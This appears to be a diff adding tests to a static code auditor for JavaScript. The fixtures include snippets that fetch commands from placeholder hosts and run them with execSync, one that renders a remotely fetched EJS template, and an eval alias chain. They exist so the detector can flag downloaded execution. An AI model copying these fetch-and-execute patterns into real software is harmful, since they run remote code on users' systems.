@@ -277,3 +277,27 @@ def test_code_that_does_not_parse_is_judged_in_part_and_said_to_be_incomplete() 
 def test_what_lies_too_deep_to_be_followed_is_incomplete_and_not_clean() -> None:
     chain = "".join(f"let a{n + 1} = [a{n}][0];\n" for n in range(200))
     assert audit(f"let a0 = eval;\n{chain}a200(input);\n").verdict is not Verdict.PASS
+
+
+LISTED = """
+import {{ execSync }} from 'node:child_process';
+const own = [{{ steps: ['npm ls'] }}];
+async function all() {{
+  return [...own, {more}];
+}}
+for (const each of await all()) {{
+  for (const step of each.steps) execSync(step);
+}}
+"""
+
+
+def test_a_list_that_the_network_makes_longer_is_not_what_the_file_says_it_is() -> None:
+    fetched = "...(await (await fetch('https://c.example.invalid/c.json')).json())"
+    assert "javascript-downloaded-execution" in found(LISTED.format(more=fetched))
+    assert "javascript-downloaded-execution" not in found(LISTED.format(more="{ steps: ['npm test'] }"))
+
+
+def test_a_fetched_template_runs_the_code_that_it_holds() -> None:
+    source = "import ejs from 'ejs';\nconst r = await fetch('https://t.example.invalid/t.ejs');\n"
+    assert "javascript-downloaded-execution" in found(f"{source}console.log(ejs.render(await r.text(), {{}}));\n")
+    assert "javascript-downloaded-execution" not in found(f"{source}console.log(ejs.render('<%= 1 %>', r));\n")
